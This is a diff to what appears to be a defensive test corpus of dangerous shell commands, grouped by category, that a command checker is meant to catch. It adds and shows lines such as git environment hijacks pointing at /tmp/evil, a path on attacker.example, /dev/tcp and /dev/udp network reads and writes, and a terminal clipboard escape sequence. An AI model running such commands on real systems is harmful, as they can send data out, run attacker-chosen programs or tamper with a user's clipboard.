@@ -267,6 +267,8 @@ export const ATTACK_CORPUS: Readonly<Record<string, readonly string[]>> = {
 		"PATH=/tmp:$PATH cat f",
 	],
 	"variables that change what runs or what it reads": [
+		": ${GIT_DIR:=/tmp/evil} && git status",
+		"echo ${CDPATH=/tmp}",
 		"export GIT_EXTERNAL_DIFF=sh",
 		"export PAGER=sh",
 		"GIT_DIR=/tmp/x git log",
@@ -313,6 +315,7 @@ export const ATTACK_CORPUS: Readonly<Record<string, readonly string[]>> = {
 		"echo x; r\\\nm -f y",
 	],
 	"a network path": [
+		"ls /net/attacker.example",
 		"cat < /dev/tcp/1.2.3.4/80",
 		"echo x > /dev/tcp/1.2.3.4/80",
 		"cat /dev/udp/1.2.3.4/53",
@@ -321,6 +324,7 @@ export const ATTACK_CORPUS: Readonly<Record<string, readonly string[]>> = {
 		"curl https://example.com",
 	],
 	"a redirect or a write to a file": [
+		"printf '\\e]52;c;ZXZpbA==\\a' > /dev/tty",
 		"cat f > out",
 		"echo hi >> out",
 		"echo hi >| out",
